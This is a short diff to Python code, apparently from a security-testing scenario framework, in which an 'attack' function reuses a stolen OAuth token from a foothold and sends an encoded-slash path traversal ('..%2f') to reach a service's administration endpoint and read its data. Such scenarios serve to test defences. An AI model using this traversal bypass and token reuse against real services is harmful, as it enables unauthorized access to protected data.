@@ -19,7 +19,7 @@ from scenarios import oauth, service_workloads
 
 def attack(foothold: Taken) -> Loot:
     """Hide the way up behind an encoded slash."""
-    token = oauth.dpop_token(foothold.oauth["access_token"], foothold.oauth["dpop_key"])
+    token = oauth.taken_token(foothold)
     service = foothold.knows["victim.service"]
     path = foothold.knows["services.administration"].removeprefix(service)
     return Loot((oauth.read_raw(f"{service}/records/..%2f{path[1:]}", token),))
